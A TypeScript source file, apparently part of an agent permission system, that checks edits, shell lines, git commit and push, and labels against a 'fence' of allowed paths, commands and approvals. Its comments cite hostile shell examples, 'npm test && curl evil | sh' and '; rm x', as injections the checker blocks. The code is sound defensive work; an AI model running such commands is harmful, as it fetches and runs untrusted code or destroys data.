import type { EffectiveFence, FenceAction, FenceDecision } from "@/schemas/fence";
import { globMatch, normalizeTarget } from "./fence-glob";

/**
 * The fence's decision on one action: denied entries first, then the rules of the action's family
 * (paths, shell lines, labels, commit and push).
 */

const decide = (decision: FenceDecision["decision"], code: string, rule?: string): FenceDecision => ({
  allowed: decision === "allowed",
  decision,
  code,
  ...(rule ? { rule } : {}),
});

/** The action token a denied entry names, and the glob after it (`push:**`, `edit:lib/**`). */
export function splitEntry(entry: string): [string, string] {
  const colon = entry.indexOf(":");
  return colon < 0 ? [entry, "**"] : [entry.slice(0, colon), entry.slice(colon + 1) || "**"];
}

function deniedBy(fence: EffectiveFence, action: string, target: string): string | undefined {
  const family = action === "write" ? "edit" : action;
  const bashVerb = action === "bash" ? bashAction(target) : undefined;
  for (const entry of fence.deniedActions) {
    const [token, glob] = splitEntry(entry);
    const tokenMatches = token === action || token === family || (bashVerb !== undefined && token === bashVerb);
    if (!tokenMatches) continue;
    // A denial is the safe side: `**` covers every target, even one the fence would refuse to match.
    if (glob === "**" || (target && globMatch(glob, target))) return entry;
  }
  return undefined;
}

/** Options git takes before its subcommand that consume the next word. */
const GIT_OPTIONS_WITH_VALUE = new Set([
  "-C",
  "-c",
  "--git-dir",
  "--work-tree",
  "--namespace",
  "--exec-path",
  "--config-env",
]);

/** `git push origin main` is a push and `git -C repo commit` a commit, whatever the allow-list says. */
export function bashAction(command: string): "push" | "commit" | undefined {
  const words = command.trim().split(/\s+/);
  while (words.length && /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[0])) words.shift();
  if (words[0] === "sudo" || words[0] === "env" || words[0] === "command") words.shift();
  if (words[0] !== "git" && !words[0]?.endsWith("/git")) return undefined;
  for (let i = 1; i < words.length; i++) {
    const word = words[i];
    if (GIT_OPTIONS_WITH_VALUE.has(word)) {
      i++;
      continue;
    }
    if (word.startsWith("-")) continue;
    return word === "push" ? "push" : word === "commit" ? "commit" : undefined;
  }
  return undefined;
}

/**
 * Splits a shell line into the commands it runs. A prefix allow-list must hold for each of them:
 * `npm test && curl evil | sh` is not `npm test`.
 */
function shellCommands(line: string): string[] | null {
  if (/[`]|\$\(|<\(|>\(/.test(line)) return null;
  return line
    .split(/&&|\|\||;|\||\n|&/)
    .map((c) => c.trim())
    .filter(Boolean);
}

const prefixMatch = (command: string, entry: string) => command === entry || command.startsWith(`${entry} `);

function checkPath(fence: EffectiveFence, action: string, target: string): FenceDecision {
  const normalized = normalizeTarget(target);
  if (!normalized.ok) return decide("outside-fence", "outside-fence", normalized.message);
  const path = normalized.path;
  const i = fence.allowedPaths.findIndex((p) => globMatch(p, path));
  if (i >= 0) return decide("allowed", "inside-fence", `allowedPaths[${i}] "${fence.allowedPaths[i]}"`);
  const a = fence.approvalRequired.findIndex((entry) => {
    if (entry === "edit" || entry === action) return true;
    const [token, glob] = splitEntry(entry);
    return (token === "edit" || token === action) && entry.includes(":") && globMatch(glob, path);
  });
  if (a >= 0)
    return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${fence.approvalRequired[a]}"`);
  return decide("outside-fence", "outside-fence", "no allowedPaths glob matches");
}

function checkBash(fence: EffectiveFence, line: string): FenceDecision {
  const approvals = fence.approvalRequired;
  const commands = shellCommands(line);
  const bashApproval = approvals.indexOf("bash");
  if (!commands || commands.length === 0) {
    if (bashApproval >= 0)
      return decide(
        "needs-approval",
        "needs-approval",
        `approvalRequired[${bashApproval}] "bash" (the command substitutes or is empty)`,
      );
    return decide(
      "outside-fence",
      "outside-fence",
      commands ? "empty command" : "command substitution is never inside a fence",
    );
  }
  let rule = "";
  for (const command of commands) {
    const verb = bashAction(command);
    if (verb) {
      const deniedEntry = deniedBy(fence, verb, "");
      if (deniedEntry) return decide("denied", "team-forbidden", `deniedActions "${deniedEntry}" (${command})`);
      const a = approvals.indexOf(verb);
      if (a >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${verb}" (${command})`);
      return decide(
        "outside-fence",
        "outside-fence",
        `"${command}" is a ${verb}, and "${verb}" is not in approvalRequired`,
      );
    }
    const i = fence.allowedCommands.findIndex((c) => prefixMatch(command, c));
    if (i < 0) {
      if (bashApproval >= 0)
        return decide("needs-approval", "needs-approval", `approvalRequired[${bashApproval}] "bash" (${command})`);
      return decide("outside-fence", "outside-fence", `no allowedCommands prefix matches "${command}"`);
    }
    rule = rule
      ? `${rule}, allowedCommands[${i}] "${fence.allowedCommands[i]}"`
      : `allowedCommands[${i}] "${fence.allowedCommands[i]}"`;
  }
  // The whole line must also start with an allowed command followed by a space, as Construct
  // checks it, so a line is never allowed here that Construct refuses ("; rm x", "npm test&&x").
  const whole = line.trim();
  if (!fence.allowedCommands.some((c) => prefixMatch(whole, c))) {
    if (bashApproval >= 0)
      return decide("needs-approval", "needs-approval", `approvalRequired[${bashApproval}] "bash" (${whole})`);
    return decide(
      "outside-fence",
      "outside-fence",
      `the line does not start with an allowed command followed by a space: "${whole}"`,
    );
  }
  return decide("allowed", "inside-fence", rule);
}

function checkLabels(fence: EffectiveFence, target: string): FenceDecision {
  // Labels are taken as written (no trimming), so " next:x" is not a next: label, as in Construct.
  const labels = target.split(",");
  const outside = labels.filter((l) => !l.startsWith("next:") && !fence.allowedBdLabels.includes(l));
  if (outside.length)
    return decide(
      "outside-fence",
      "label-outside-fence",
      fence.allowedBdLabels.length
        ? `labels not in allowedBdLabels: ${outside.map((l) => JSON.stringify(l)).join(", ")}`
        : `allowedBdLabels is empty, so only next:* labels are allowed (not ${outside.map((l) => JSON.stringify(l)).join(", ")})`,
    );
  return decide(
    "allowed",
    "inside-fence",
    fence.allowedBdLabels.length
      ? "every label is in allowedBdLabels or is a next: label"
      : "every label is a next: label",
  );
}

/** Decides an action against a fence (use `effectiveFence` first to apply the team). */
export function checkAction(fence: EffectiveFence, action: FenceAction | string, target = ""): FenceDecision {
  const denied = deniedBy(fence, action, target);
  if (denied) return decide("denied", "team-forbidden", `deniedActions "${denied}"`);
  switch (action) {
    case "edit":
    case "write":
      return checkPath(fence, action, target);
    case "bash":
      return checkBash(fence, target);
    case "commit":
    case "push": {
      const a = fence.approvalRequired.indexOf(action);
      if (a >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${action}"`);
      return decide("outside-fence", "outside-fence", `"${action}" is not in approvalRequired`);
    }
    case "bd-label":
      return checkLabels(fence, target);
    default:
      return decide(
        "unknown-action",
        "unknown-action",
        `"${action}" is not one of edit, write, bash, commit, push, bd-label`,
      );
  }
}

/** Parses a typed action such as `edit src/x.ts`, `bash git push` or `commit`. */
export function parseActionText(text: string): { action: string; target: string } {
  const trimmed = text.trim();
  const space = trimmed.indexOf(" ");
  return space < 0
    ? { action: trimmed, target: "" }
    : { action: trimmed.slice(0, space), target: trimmed.slice(space + 1).trim() };
}
